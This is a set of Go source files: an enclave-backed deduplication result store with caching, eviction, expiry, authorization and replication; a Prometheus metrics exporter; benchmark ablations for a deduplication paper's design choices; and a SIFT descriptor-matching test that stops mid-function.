						if s.expiredLocked(e) {
							expired = true
						} else {
							found = true
							sh.stats.Hits++
							e.hits++
							sealed.Challenge = append([]byte(nil), e.challenge...)
							sealed.WrappedKey = append([]byte(nil), e.wrappedKey...)
							blobID = e.blobID
						}
					}
				}
				sh.mu.Unlock()
			}
			return nil
		}
		sh := s.shardFor(tag)
		sh.mu.Lock()
		defer sh.mu.Unlock()
		sh.stats.Gets++
		e, ok := sh.dict[tag]
		if !ok {
			return nil
		}
		if s.expiredLocked(e) {
			// Lazily collect the stale entry and report a miss.
			expired = true
			return nil
		}
		found = true
		sh.stats.Hits++
		e.hits++
		// LRU maintenance and freshness updates reveal which entry was
		// touched; they only run in the non-oblivious path.
		sh.lru.MoveToFront(e.lruElem)
		e.lastTouch = s.cfg.Now()
		sealed.Challenge = append([]byte(nil), e.challenge...)
		sealed.WrappedKey = append([]byte(nil), e.wrappedKey...)
		blobID = e.blobID
		return nil
	})
	if expired {
		s.deleteTag(tag, reasonExpire)
	}
	if err != nil || !found {
		return mle.Sealed{}, false, err
	}
	blob, err := s.cfg.Blobs.Get(blobID)
	if err != nil {
		// The untrusted storage lost or corrupted the blob; treat as a
		// miss so the application recomputes (it would reject the
		// result at verification anyway).
		s.deleteTag(tag, reasonDangling)
		return mle.Sealed{}, false, nil
	}
	sealed.Blob = blob
	return sealed, true, nil
}

// Put stores a freshly computed sealed result for the tag on behalf of
// the application identified by owner. Duplicate tags keep the first
// stored version ("only one version of result ciphertext ... needs to
// be stored", Section IV-B Remark); installed reports whether this call
// created the entry.
func (s *Store) Put(owner enclave.Measurement, tag mle.Tag, sealed mle.Sealed) (installed bool, err error) {
	return s.put(owner, tag, sealed, putOpts{})
}

// PutReplace stores a sealed result, overwriting any existing entry
// for the tag. It is used when an application recomputed a result
// after the stored version failed the verification protocol (a
// poisoned or corrupted entry): without replacement the bad entry
// would be permanent, costing every future caller a recomputation.
// Replacement is still subject to authorization and quotas, so an
// adversary cannot use it to thrash the cache faster than its PUT rate
// allows.
func (s *Store) PutReplace(owner enclave.Measurement, tag mle.Tag, sealed mle.Sealed) (installed bool, err error) {
	return s.put(owner, tag, sealed, putOpts{replace: true})
}

// putOpts selects Put variants.
type putOpts struct {
	// restore bypasses authorization and rate limiting for
	// operator-initiated snapshot restores while keeping byte
	// accounting consistent.
	restore bool
	// replace removes any existing entry for the tag before inserting.
	replace bool
}

func (s *Store) put(owner enclave.Measurement, tag mle.Tag, sealed mle.Sealed, opts putOpts) (installed bool, err error) {
	if s.putSeconds != nil {
		start := time.Now()
		defer func() { s.putSeconds.Observe(time.Since(start)) }()
	}
	sh := s.shardFor(tag)
	restore := opts.restore
	if s.cfg.Auth != nil && !restore {
		if aerr := s.cfg.Auth.Authorize(owner, tag, PermPut); aerr != nil {
			sh.mu.Lock()
			sh.stats.Unauthorized++
			sh.mu.Unlock()
			return false, aerr
		}
	}
	blobLen := int64(len(sealed.Blob))
	if ok, reason := s.quota.allowPut(owner, blobLen, restore); !ok {
		sh.mu.Lock()
		sh.stats.PutDenied++
		sh.mu.Unlock()
		return false, fmt.Errorf("%w: %s", ErrQuota, reason)
	}

	if opts.replace {
		// Drop any existing version before inserting. Not atomic with
		// the insert below: a concurrent Put can win the race, in
		// which case this call reports a duplicate — acceptable, since
		// any fresh version supersedes the bad one.
		s.deleteTag(tag, reasonReplace)
	}

	// Duplicate-check first under the shard lock (inside the enclave);
	// only store the blob outside if this is a fresh tag.
	dupe := false
	err = s.cfg.Enclave.ECall(func() error {
		sh.mu.Lock()
		defer sh.mu.Unlock()
		if s.closed.Load() {
			return ErrClosed
		}
		if _, ok := sh.dict[tag]; ok {
			dupe = true
			sh.stats.PutDupes++
		}
		return nil
	})
	if err != nil {
		s.quota.creditBytes(owner, blobLen)
		return false, err
	}
	if dupe {
		s.quota.creditBytes(owner, blobLen)
		return false, nil
	}

	blobID, err := s.cfg.Blobs.Put(sealed.Blob)
	if err != nil {
		s.quota.creditBytes(owner, blobLen)
		return false, fmt.Errorf("store blob: %w", err)
	}

	e := &entry{
		challenge:  append([]byte(nil), sealed.Challenge...),
		wrappedKey: append([]byte(nil), sealed.WrappedKey...),
		blobID:     blobID,
		blobSize:   blobLen,
		owner:      owner,
		lastTouch:  s.cfg.Now(),
	}
	if err := s.cfg.Enclave.Alloc(e.enclaveBytes()); err != nil {
		_ = s.cfg.Blobs.Delete(blobID)
		s.quota.creditBytes(owner, blobLen)
		return false, fmt.Errorf("metadata allocation: %w", err)
	}

	err = s.cfg.Enclave.ECall(func() error {
		sh.mu.Lock()
		defer sh.mu.Unlock()
		if s.closed.Load() {
			return ErrClosed
		}
		if _, ok := sh.dict[tag]; ok {
			// Lost a race with a concurrent identical PUT.
			dupe = true
			sh.stats.PutDupes++
			return nil
		}
		e.lruElem = sh.lru.PushFront(tag)
		sh.dict[tag] = e
		s.entries.Add(1)
		s.blobTotal.Add(e.blobSize)
		sh.stats.Puts++
		return nil
	})
	if err != nil || dupe {
		_ = s.cfg.Blobs.Delete(blobID)
		s.cfg.Enclave.Free(e.enclaveBytes())
		s.quota.creditBytes(owner, blobLen)
		return false, err
	}
	s.enforceLimits()
	return true, nil
}

// enforceLimits evicts least-recently-used entries until the global
// MaxEntries/MaxBlobBytes caps are respected. The victim is the oldest
// LRU tail across all shards, so eviction pressure lands on the
// globally least recent entry regardless of which shard it lives in
// (eviction fairness across shards).
func (s *Store) enforceLimits() {
	if s.cfg.MaxEntries <= 0 && s.cfg.MaxBlobBytes <= 0 {
		return
	}
	// Bound the loop: one pass can only need to evict as many entries
	// as exist.
	limit := int(s.entries.Load()) + 1
	for i := 0; i < limit; i++ {
		overEntries := s.cfg.MaxEntries > 0 && int(s.entries.Load()) > s.cfg.MaxEntries
		overBytes := s.cfg.MaxBlobBytes > 0 && s.blobTotal.Load() > s.cfg.MaxBlobBytes
		if !overEntries && !overBytes {
			return
		}
		victim, ok := s.oldestTail()
		if !ok {
			return
		}
		s.deleteTag(victim, reasonEvict)
	}
}

// oldestTail returns the tag of the least recently used entry across
// all shards: each shard's LRU tail is its local least-recent entry,
// and lastTouch orders the tails globally.
func (s *Store) oldestTail() (mle.Tag, bool) {
	var (
		best  mle.Tag
		bestT time.Time
		found bool
	)
	for _, sh := range s.shards {
		sh.mu.Lock()
		if el := sh.lru.Back(); el != nil {
			if tag, ok := el.Value.(mle.Tag); ok {
				e := sh.dict[tag]
				if e != nil && (!found || e.lastTouch.Before(bestT)) {
					best, bestT, found = tag, e.lastTouch, true
				}
			}
		}
		sh.mu.Unlock()
	}
	return best, found
}

// expiredLocked reports whether the entry is past its TTL. Caller
// holds the entry's shard lock.
func (s *Store) expiredLocked(e *entry) bool {
	return s.cfg.TTL > 0 && s.cfg.Now().Sub(e.lastTouch) > s.cfg.TTL
}

// ExpireNow sweeps the dictionary, removing every entry past its TTL,
// and reports how many were removed. A no-op without a configured TTL.
func (s *Store) ExpireNow() int {
	if s.cfg.TTL <= 0 {
		return 0
	}
	var stale []mle.Tag
	for _, sh := range s.shards {
		sh.mu.Lock()
		for tag, e := range sh.dict {
			if s.expiredLocked(e) {
				stale = append(stale, tag)
			}
		}
		sh.mu.Unlock()
	}
	removed := 0
	for _, tag := range stale {
		if s.deleteTag(tag, reasonExpire) {
			removed++
		}
	}
	return removed
}

// obliviousLookupLocked scans every entry of one shard with a
// constant-time tag comparison, doing identical work for every entry
// regardless of where (or whether) the tag matches. Caller holds the
// shard lock inside the store enclave.
func obliviousLookupLocked(sh *shard, tag mle.Tag) *entry {
	var found *entry
	for k := range sh.dict {
		k := k
		match := subtle.ConstantTimeCompare(k[:], tag[:])
		// Branchless-ish select: always read the entry, conditionally
		// retain it.
		e := sh.dict[k]
		if match == 1 {
			found = e
		}
	}
	return found
}

// deleteReason distinguishes why an entry is removed, for accurate
// statistics.
type deleteReason int

const (
	reasonEvict deleteReason = iota + 1
	reasonExpire
	reasonDangling
	reasonReplace
)

// deleteTag removes an entry, releasing its enclave memory, blob and
// quota accounting. It reports whether the entry existed.
func (s *Store) deleteTag(tag mle.Tag, reason deleteReason) bool {
	sh := s.shardFor(tag)
	sh.mu.Lock()
	e, ok := sh.dict[tag]
	if ok {
		delete(sh.dict, tag)
		sh.lru.Remove(e.lruElem)
		s.entries.Add(-1)
		s.blobTotal.Add(-e.blobSize)
		switch reason {
		case reasonEvict:
			sh.stats.Evictions++
		case reasonExpire:
			sh.stats.Expired++
		}
	}
	sh.mu.Unlock()
	if !ok {
		return false
	}
	s.cfg.Enclave.Free(e.enclaveBytes())
	_ = s.cfg.Blobs.Delete(e.blobID)
	s.quota.creditBytes(e.owner, e.blobSize)
	return true
}

// Stats returns a snapshot of the store's counters. All shard locks
// are held simultaneously while the counters are summed, so the
// snapshot is consistent across shards.
func (s *Store) Stats() Stats {
	for _, sh := range s.shards {
		sh.mu.Lock()
	}
	var st Stats
	for _, sh := range s.shards {
		st.add(sh.stats)
		st.Entries += len(sh.dict)
	}
	for i := len(s.shards) - 1; i >= 0; i-- {
		s.shards[i].mu.Unlock()
	}
	st.BlobBytes = s.cfg.Blobs.Bytes()
	return st
}

// Len reports the number of dictionary entries.
func (s *Store) Len() int {
	return int(s.entries.Load())
}

// AppBytes reports the resident ciphertext bytes attributed to an
// application for quota purposes.
func (s *Store) AppBytes(owner enclave.Measurement) int64 {
	return s.quota.bytesOf(owner)
}

// Close marks the store closed. Subsequent Get/Put return ErrClosed.
func (s *Store) Close() {
	s.closed.Store(true)
}

// Closed reports whether Close has been called.
func (s *Store) Closed() bool {
	return s.closed.Load()
}

// ExportEntry is a replication record: everything needed to install the
// result at another store.
type ExportEntry struct {
	Tag    mle.Tag
	Sealed mle.Sealed
	Hits   int64
	Owner  enclave.Measurement
}

// ExportHotAs returns up to max entries with at least minHits hits,
// most frequently hit first, on behalf of the attested application app.
// It backs the wire-level SYNC_PULL request (cluster.Syncer): a remote
// puller gets the store's popular results without walking the whole
// dictionary, and — when controlled deduplication is configured — only
// the entries it is authorized to read. max values outside (0,
// wire.MaxBatchItems] are clamped by the server; a non-positive max
// here means unlimited.
func (s *Store) ExportHotAs(app enclave.Measurement, minHits int64, max int) ([]ExportEntry, error) {
	entries, err := s.Export(minHits)
	if err != nil {
		return nil, err
	}
	if s.cfg.Auth != nil {
		authorized := entries[:0]
		for _, e := range entries {
			if aerr := s.cfg.Auth.Authorize(app, e.Tag, PermGet); aerr != nil {
				continue // deny without information, as for GET
			}
			authorized = append(authorized, e)
		}
		entries = authorized
	}
	sort.SliceStable(entries, func(i, j int) bool {
		return entries[i].Hits > entries[j].Hits
	})
	if max > 0 && len(entries) > max {
		entries = entries[:max]
	}
	return entries, nil
}

// Export returns entries with at least minHits hits, used by the
// master-store replication of Section IV-B ("periodically synchronizes
// the popular (i.e., frequently appeared) results").
func (s *Store) Export(minHits int64) ([]ExportEntry, error) {
	type ref struct {
		tag   mle.Tag
		e     *entry
		blob  BlobID
		hits  int64
		owner enclave.Measurement
	}
	var refs []ref
	for _, sh := range s.shards {
		sh.mu.Lock()
		for tag, e := range sh.dict {
			if e.hits >= minHits {
				refs = append(refs, ref{tag: tag, e: e, blob: e.blobID, hits: e.hits, owner: e.owner})
			}
		}
		sh.mu.Unlock()
	}

	out := make([]ExportEntry, 0, len(refs))
	for _, r := range refs {
		blob, err := s.cfg.Blobs.Get(r.blob)
		if err != nil {
			continue // entry raced with eviction
		}
		out = append(out, ExportEntry{
			Tag: r.tag,
			Sealed: mle.Sealed{
				Challenge:  append([]byte(nil), r.e.challenge...),
				WrappedKey: append([]byte(nil), r.e.wrappedKey...),
				Blob:       blob,
			},
			Hits:  r.hits,
			Owner: r.owner,
		})
	}
	return out, nil
}
