package telemetry

import (
	"fmt"
	"io"
	"strconv"
	"strings"
)

// WritePrometheus renders every registered metric in the Prometheus
// text exposition format (version 0.0.4): counters and gauges as
// single samples, histograms as cumulative le-bucketed families with
// _sum and _count, all durations in seconds.
func (r *Registry) WritePrometheus(w io.Writer) error {
	if r == nil {
		return nil
	}
	lastFamily := ""
	for _, m := range r.sorted() {
		var (
			meta  *metricMeta
			typ   string
			lines func() []string
		)
		switch v := m.(type) {
		case *Counter:
			meta, typ = &v.metricMeta, "counter"
			lines = func() []string { return []string{sample(v.full, float64(v.Value()))} }
		case *CounterFunc:
			meta, typ = &v.metricMeta, "counter"
			lines = func() []string { return []string{sample(v.full, float64(v.Value()))} }
		case *Gauge:
			meta, typ = &v.metricMeta, "gauge"
			lines = func() []string { return []string{sample(v.full, float64(v.Value()))} }
		case *GaugeFunc:
			meta, typ = &v.metricMeta, "gauge"
			lines = func() []string { return []string{sample(v.full, v.Value())} }
		case *Histogram:
			meta, typ = &v.metricMeta, "histogram"
			lines = func() []string { return histLines(v) }
		default:
			continue
		}
		if meta.name != lastFamily {
			lastFamily = meta.name
			if meta.help != "" {
				if _, err := fmt.Fprintf(w, "# HELP %s %s\n", meta.name, meta.help); err != nil {
					return err
				}
			}
			if _, err := fmt.Fprintf(w, "# TYPE %s %s\n", meta.name, typ); err != nil {
				return err
			}
		}
		for _, line := range lines() {
			if _, err := io.WriteString(w, line+"\n"); err != nil {
				return err
			}
		}
	}
	return nil
}

// sample renders one "name{labels} value" line.
func sample(full string, v float64) string {
	return full + " " + strconv.FormatFloat(v, 'g', -1, 64)
}

// withLabel injects an extra label into an already-rendered full name.
func withLabel(full, key, value string) string {
	extra := fmt.Sprintf("%s=%q", key, value)
	if i := strings.IndexByte(full, '{'); i >= 0 {
		return full[:len(full)-1] + "," + extra + "}"
	}
	return full + "{" + extra + "}"
}

// histLines renders one histogram family member as cumulative buckets
// plus _sum and _count.
func histLines(h *Histogram) []string {
	snap := h.Snapshot()
	base := h.full
	nameEnd := strings.IndexByte(base, '{')
	suffix := func(s string) string {
		if nameEnd < 0 {
			return base + s
		}
		return base[:nameEnd] + s + base[nameEnd:]
	}
	var out []string
	infDone := false
	for _, b := range snap.Buckets {
		le := strconv.FormatFloat(b.LE, 'g', -1, 64)
		if b.LE < 0 {
			le = "+Inf"
			infDone = true
		}
		out = append(out, sample(withLabel(suffix("_bucket"), "le", le), float64(b.Count)))
	}
	if !infDone {
		out = append(out, sample(withLabel(suffix("_bucket"), "le", "+Inf"), float64(snap.Count)))
	}
	out = append(out,
		sample(suffix("_sum"), snap.SumSeconds),
		sample(suffix("_count"), float64(snap.Count)),
	)
	return out
}

// CounterSnapshot is one counter's point-in-time value.
type CounterSnapshot struct {
	Name  string `json:"name"`
	Value int64  `json:"value"`
}

// GaugeSnapshot is one gauge's point-in-time value.
type GaugeSnapshot struct {
	Name  string  `json:"name"`
	Value float64 `json:"value"`
}

// Snapshot is a JSON-marshalable view of a whole registry.
type Snapshot struct {
	Counters   []CounterSnapshot   `json:"counters"`
	Gauges     []GaugeSnapshot     `json:"gauges"`
	Histograms []HistogramSnapshot `json:"histograms"`
}

// Counter returns the value of the counter with the given full name
// (0 when absent).
func (s Snapshot) Counter(full string) int64 {
	for _, c := range s.Counters {
		if c.Name == full {
			return c.Value
		}
	}
	return 0
}

// Histogram returns the snapshot of the histogram with the given full
// name.
func (s Snapshot) Histogram(full string) (HistogramSnapshot, bool) {
	for _, h := range s.Histograms {
		if h.Name == full {
			return h, true
		}
	}
	return HistogramSnapshot{}, false
}

// HistogramsByFamily returns every histogram snapshot whose family
// name (the part before any label set) matches name.
func (s Snapshot) HistogramsByFamily(name string) []HistogramSnapshot {
	var out []HistogramSnapshot
	for _, h := range s.Histograms {
		famEnd := strings.IndexByte(h.Name, '{')
		fam := h.Name
		if famEnd >= 0 {
			fam = h.Name[:famEnd]
		}
		if fam == name {
			out = append(out, h)
		}
	}
	return out
}

// Snapshot captures every registered metric. Within one histogram the
// count always equals the bucket sum (see HistogramSnapshot); across
// metrics the values are each read atomically in registration-name
// order.
func (r *Registry) Snapshot() Snapshot {
	var s Snapshot
	if r == nil {
		return s
	}
	for _, m := range r.sorted() {
		switch v := m.(type) {
		case *Counter:
			s.Counters = append(s.Counters, CounterSnapshot{Name: v.full, Value: v.Value()})
		case *CounterFunc:
			s.Counters = append(s.Counters, CounterSnapshot{Name: v.full, Value: v.Value()})
		case *Gauge:
			s.Gauges = append(s.Gauges, GaugeSnapshot{Name: v.full, Value: float64(v.Value())})
		case *GaugeFunc:
			s.Gauges = append(s.Gauges, GaugeSnapshot{Name: v.full, Value: v.Value()})
		case *Histogram:
			s.Histograms = append(s.Histograms, v.Snapshot())
		}
	}
	return s
}
