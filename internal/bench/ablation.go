package bench

import (
	"crypto/sha256"
	"fmt"
	"time"

	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/store"
)

// The ablations called out in DESIGN.md: each isolates one design
// decision of the paper and quantifies its cost or benefit.

// SchemeRow compares the cross-application RCE scheme (Section III-C)
// with the single-key basic design (Section III-B) at one input size.
type SchemeRow struct {
	SizeBytes             int
	RCEEncMS, SingleEncMS float64
	RCEDecMS, SingleDecMS float64
}

// AblationScheme measures seal/open cost of both schemes. The expected
// result: RCE costs one extra hash over (func, input, r) plus an XOR —
// the price of eliminating the system-wide key.
func AblationScheme(sizes []int, trials int) ([]SchemeRow, error) {
	if len(sizes) == 0 {
		sizes = DefaultTable1Sizes
	}
	id := mle.FuncID(sha256.Sum256([]byte("ablation func")))
	var key [mle.KeySize]byte
	copy(key[:], "ablation-key-16b")
	rce := &mle.RCE{}
	single := mle.NewSingleKey(key, nil)

	rows := make([]SchemeRow, 0, len(sizes))
	for _, size := range sizes {
		input := randBytes(size)
		result := randBytes(size)
		row := SchemeRow{SizeBytes: size}

		var rceSealed, singleSealed mle.Sealed
		t, err := timeIt(trials, func() error {
			var e error
			rceSealed, e = rce.Encrypt(id, input, result)
			return e
		})
		if err != nil {
			return nil, err
		}
		row.RCEEncMS = ms(t)

		t, err = timeIt(trials, func() error {
			var e error
			singleSealed, e = single.Encrypt(id, input, result)
			return e
		})
		if err != nil {
			return nil, err
		}
		row.SingleEncMS = ms(t)

		t, err = timeIt(trials, func() error {
			_, e := rce.Decrypt(id, input, rceSealed)
			return e
		})
		if err != nil {
			return nil, err
		}
		row.RCEDecMS = ms(t)

		t, err = timeIt(trials, func() error {
			_, e := single.Decrypt(id, input, singleSealed)
			return e
		})
		if err != nil {
			return nil, err
		}
		row.SingleDecMS = ms(t)
		rows = append(rows, row)
	}
	return rows, nil
}

// RenderAblationScheme formats the scheme comparison.
func RenderAblationScheme(rows []SchemeRow) string {
	s := "Ablation: RCE (cross-app, keyless) vs single-key basic design\n"
	s += fmt.Sprintf("%-10s %12s %12s %12s %12s\n",
		"Size(KB)", "RCE enc(ms)", "1key enc(ms)", "RCE dec(ms)", "1key dec(ms)")
	for _, r := range rows {
		s += fmt.Sprintf("%-10d %12.3f %12.3f %12.3f %12.3f\n",
			r.SizeBytes/1024, r.RCEEncMS, r.SingleEncMS, r.RCEDecMS, r.SingleDecMS)
	}
	return s
}

// AsyncPutRow compares initial-computation latency with the PUT
// pipeline on the caller path vs in the background worker (the
// Section V-B optimization).
type AsyncPutRow struct {
	SizeBytes       int
	SyncMS, AsyncMS float64
}

// AblationAsyncPut measures the caller-visible initial-computation
// latency for a trivially fast function whose result has the given
// size, isolating the PUT-path cost.
func AblationAsyncPut(sizes []int, trials int) ([]AsyncPutRow, error) {
	if len(sizes) == 0 {
		sizes = DefaultTable1Sizes
	}
	measure := func(async bool, size int) (float64, error) {
		platform := enclave.NewPlatform(enclave.Config{SimulateCosts: true})
		appEnc, err := platform.Create("app", []byte("app"))
		if err != nil {
			return 0, err
		}
		storeEnc, err := platform.Create("store", []byte("store"))
		if err != nil {
			return 0, err
		}
		st, err := store.New(store.Config{Enclave: storeEnc})
		if err != nil {
			return 0, err
		}
		rt, err := dedup.NewRuntime(dedup.Config{
			Enclave:  appEnc,
			Client:   dedup.NewLocalClient(st, appEnc.Measurement()),
			AsyncPut: async,
			Logf:     func(string, ...any) {},
		})
		if err != nil {
			return 0, err
		}
		defer func() {
			_ = rt.Close()
			st.Close()
		}()
		result := randBytes(size)
		compute := func([]byte) ([]byte, error) { return result, nil }

		n := 0
		t, err := timeIt(trials, func() error {
			n++
			var trialID mle.FuncID
			trialID[0] = byte(n)
			trialID[1] = byte(size)
			trialID[2] = byte(size >> 8)
			trialID[3] = byte(size >> 16)
			_, _, xerr := rt.Execute(trialID, []byte("input"), compute)
			return xerr
		})
		if err != nil {
			return 0, err
		}
		return ms(t), nil
	}

	rows := make([]AsyncPutRow, 0, len(sizes))
	for _, size := range sizes {
		syncMS, err := measure(false, size)
		if err != nil {
			return nil, err
		}
		asyncMS, err := measure(true, size)
		if err != nil {
			return nil, err
		}
		rows = append(rows, AsyncPutRow{SizeBytes: size, SyncMS: syncMS, AsyncMS: asyncMS})
	}
	return rows, nil
}

// RenderAblationAsyncPut formats the async-PUT comparison.
func RenderAblationAsyncPut(rows []AsyncPutRow) string {
	s := "Ablation: initial computation latency, synchronous vs async PUT\n"
	s += fmt.Sprintf("%-10s %14s %14s\n", "Size(KB)", "sync(ms)", "async(ms)")
	for _, r := range rows {
		s += fmt.Sprintf("%-10d %14.3f %14.3f\n", r.SizeBytes/1024, r.SyncMS, r.AsyncMS)
	}
	return s
}

// ObliviousRow compares GET latency of the hash-map dictionary with
// the access-pattern-oblivious linear-scan dictionary at one store
// size.
type ObliviousRow struct {
	Entries              int
	PlainMS, ObliviousMS float64
}

// AblationOblivious quantifies the cost of hiding the memory access
// pattern of lookups (the security/performance balance Section III-D
// defers to future work): plain lookups are O(1), oblivious lookups
// scan all entries.
func AblationOblivious(entryCounts []int, trials int) ([]ObliviousRow, error) {
	if len(entryCounts) == 0 {
		entryCounts = []int{100, 1000, 10000}
	}
	measure := func(n int, oblivious bool) (float64, error) {
		platform := enclave.NewPlatform(enclave.Config{SimulateCosts: true})
		storeEnc, err := platform.Create("store", []byte("store"))
		if err != nil {
			return 0, err
		}
		st, err := store.New(store.Config{Enclave: storeEnc, Oblivious: oblivious})
		if err != nil {
			return 0, err
		}
		defer st.Close()
		var owner enclave.Measurement
		mkTag := func(i int) mle.Tag {
			var t mle.Tag
			t[0], t[1], t[2] = byte(i), byte(i>>8), byte(i>>16)
			return t
		}
		for i := 0; i < n; i++ {
			if _, err := st.Put(owner, mkTag(i), mle.Sealed{
				Challenge:  []byte("challenge-16byte"),
				WrappedKey: []byte("wrappedkey16byte"),
				Blob:       []byte("small result"),
			}); err != nil {
				return 0, err
			}
		}
		const ops = 100
		t, err := timeIt(trials, func() error {
			for i := 0; i < ops; i++ {
				if _, found, err := st.Get(mkTag(i % n)); err != nil || !found {
					return fmt.Errorf("get %d: found=%v err=%v", i, found, err)
				}
			}
			return nil
		})
		if err != nil {
			return 0, err
		}
		return ms(t), nil
	}

	rows := make([]ObliviousRow, 0, len(entryCounts))
	for _, n := range entryCounts {
		plain, err := measure(n, false)
		if err != nil {
			return nil, err
		}
		obl, err := measure(n, true)
		if err != nil {
			return nil, err
		}
		rows = append(rows, ObliviousRow{Entries: n, PlainMS: plain, ObliviousMS: obl})
	}
	return rows, nil
}

// RenderAblationOblivious formats the oblivious-lookup comparison
// (times are per 100 GETs).
func RenderAblationOblivious(rows []ObliviousRow) string {
	s := "Ablation: plain vs access-pattern-oblivious lookups (100 GETs)\n"
	s += fmt.Sprintf("%-10s %14s %16s %10s\n", "Entries", "plain(ms)", "oblivious(ms)", "slowdown")
	for _, r := range rows {
		slow := 0.0
		if r.PlainMS > 0 {
			slow = r.ObliviousMS / r.PlainMS
		}
		s += fmt.Sprintf("%-10d %14.3f %16.3f %9.1fx\n", r.Entries, r.PlainMS, r.ObliviousMS, slow)
	}
	return s
}

// BlobPlacementRow compares EPC pressure with ciphertext blobs kept
// outside the enclave (the paper's design) vs hypothetically inside.
type BlobPlacementRow struct {
	Entries                    int
	OutsideMS, InsideMS        float64
	OutsidePageFaults          int64
	InsidePageFaults           int64
	OutsideEPCBytes, InsideEPC int64
}

// AblationBlobPlacement inserts N entries with blobSize-byte
// ciphertexts into two stores: the real one (metadata-only in EPC) and
// a variant that additionally charges the blob bytes to the store
// enclave, as a blobs-in-enclave design would. It reports insertion
// time, page faults and EPC residency.
func AblationBlobPlacement(entryCounts []int, blobSize int) ([]BlobPlacementRow, error) {
	if len(entryCounts) == 0 {
		entryCounts = []int{1000, 5000, 20000}
	}
	if blobSize <= 0 {
		blobSize = 8 << 10
	}
	run := func(n int, inside bool) (float64, int64, int64, error) {
		platform := enclave.NewPlatform(enclave.Config{
			SimulateCosts: true,
			// Shrink the EPC so the experiment shows paging pressure
			// at laptop-scale entry counts.
			EPCBytes:       64 << 20,
			EPCUsableBytes: 32 << 20,
		})
		storeEnc, err := platform.Create("store", []byte("store"))
		if err != nil {
			return 0, 0, 0, err
		}
		st, err := store.New(store.Config{Enclave: storeEnc})
		if err != nil {
			return 0, 0, 0, err
		}
		defer st.Close()
		var owner enclave.Measurement
		blob := randBytes(blobSize)

		start := time.Now()
		for i := 0; i < n; i++ {
			var tag mle.Tag
			tag[0], tag[1], tag[2] = byte(i), byte(i>>8), byte(i>>16)
			if _, err := st.Put(owner, tag, mle.Sealed{
				Challenge:  blob[:mle.ChallengeSize],
				WrappedKey: blob[:mle.KeySize],
				Blob:       blob,
			}); err != nil {
				return 0, 0, 0, err
			}
			if inside {
				// Charge the ciphertext to the enclave as a
				// blobs-inside design would.
				if err := storeEnc.Alloc(int64(blobSize)); err != nil {
					return 0, 0, 0, fmt.Errorf("inside alloc at entry %d: %w", i, err)
				}
			}
		}
		elapsed := time.Since(start)
		m := storeEnc.Metrics()
		return ms(elapsed), m.PageFaults, storeEnc.HeapUsed(), nil
	}

	rows := make([]BlobPlacementRow, 0, len(entryCounts))
	for _, n := range entryCounts {
		outMS, outPF, outEPC, err := run(n, false)
		if err != nil {
			return nil, err
		}
		row := BlobPlacementRow{
			Entries:           n,
			OutsideMS:         outMS,
			OutsidePageFaults: outPF,
			OutsideEPCBytes:   outEPC,
		}
		inMS, inPF, inEPC, err := run(n, true)
		if err != nil {
			// Blobs-inside can exhaust the EPC entirely — that IS the
			// finding; record it as an unmeasurable configuration.
			row.InsideMS = -1
			row.InsidePageFaults = -1
			row.InsideEPC = -1
		} else {
			row.InsideMS = inMS
			row.InsidePageFaults = inPF
			row.InsideEPC = inEPC
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// RenderAblationBlobPlacement formats the blob-placement comparison;
// -1 marks configurations that exhausted the EPC.
func RenderAblationBlobPlacement(rows []BlobPlacementRow, blobSize int) string {
	s := fmt.Sprintf("Ablation: blob placement (blob = %d KB, EPC capped at 64MB/32MB usable)\n", blobSize/1024)
	s += fmt.Sprintf("%-9s %12s %12s %11s %11s %12s %12s\n",
		"Entries", "out(ms)", "in(ms)", "out-faults", "in-faults", "out-EPC(KB)", "in-EPC(KB)")
	for _, r := range rows {
		s += fmt.Sprintf("%-9d %12.2f %12.2f %11d %11d %12d %12d\n",
			r.Entries, r.OutsideMS, r.InsideMS, r.OutsidePageFaults, r.InsidePageFaults,
			r.OutsideEPCBytes/1024, r.InsideEPC/1024)
	}
	return s
}
