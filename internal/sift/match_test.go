package sift

import (
	"math"
	"testing"
)

func TestMatchIdenticalImages(t *testing.T) {
	img := blobImage(96, 96, [][2]int{{30, 30}, {70, 60}}, 5)
	kps := Detect(img, DefaultParams())
	if len(kps) < 2 {
		t.Skip("too few keypoints for matching test")
	}
	matches := MatchDescriptors(kps, kps, 0)
	if len(matches) == 0 {
		t.Fatal("no matches between identical keypoint sets")
	}
	// Every returned match against the identical set must be the
	// keypoint itself (distance zero) or a duplicate orientation at
	// the same location.
	for _, m := range matches {
		if m.Dist == 0 && m.A != m.B {
			a, b := kps[m.A], kps[m.B]
			if a.X != b.X || a.Y != b.Y {
				t.Errorf("zero-distance match across locations: %v vs %v", a, b)
			}
		}
	}
	// The best match must have distance zero.
	if matches[0].Dist != 0 {
		t.Errorf("best self-match distance = %d, want 0", matches[0].Dist)
	}
}

func TestMatchTranslatedImage(t *testing.T) {
	// The same blob pattern shifted by (8, 5): descriptors should
	// still match across the two images at the shifted coordinates.
	base := [][2]int{{30, 30}, {64, 50}}
	shift := [2]int{8, 5}
	shifted := make([][2]int, len(base))
	for i, c := range base {
		shifted[i] = [2]int{c[0] + shift[0], c[1] + shift[1]}
	}
	imgA := blobImage(112, 112, base, 5)
	imgB := blobImage(112, 112, shifted, 5)
	kpsA := Detect(imgA, DefaultParams())
	kpsB := Detect(imgB, DefaultParams())
	if len(kpsA) == 0 || len(kpsB) == 0 {
		t.Skip("no keypoints detected")
	}
	matches := MatchDescriptors(kpsA, kpsB, 0)
	if len(matches) == 0 {
		t.Fatal("no matches between translated images")
	}
	// The majority of matches must be displacement-consistent.
	consistent := 0
	for _, m := range matches {
		dx := kpsB[m.B].X - kpsA[m.A].X
		dy := kpsB[m.B].Y - kpsA[m.A].Y
		if math.Abs(dx-float64(shift[0])) < 3 && math.Abs(dy-float64(shift[1])) < 3 {
			consistent++
		}
	}
	if consistent*2 < len(matches) {
		t.Errorf("only %d/%d matches consistent with the translation", consistent, len(matches))
	}
}

func TestMatchRatioTestFilters(t *testing.T) {
	// Construct two keypoints in b with nearly identical descriptors:
	// the ratio test must reject the ambiguous match.
	var a, b [2]Keypoint
	for i := range a[0].Descriptor {
		a[0].Descriptor[i] = uint8(i)
		b[0].Descriptor[i] = uint8(i) // identical to a[0]
		b[1].Descriptor[i] = uint8(i) // near-identical
	}
	b[1].Descriptor[0] ^= 1

	// Query a[0] against the two near-twins: nearest dist 0 wins
	// (0 < r2*1), accepted. Query with a descriptor equidistant to
	// both: rejected.
	for i := range a[1].Descriptor {
		a[1].Descriptor[i] = uint8(i) + 10 // distance 12800 to both
	}
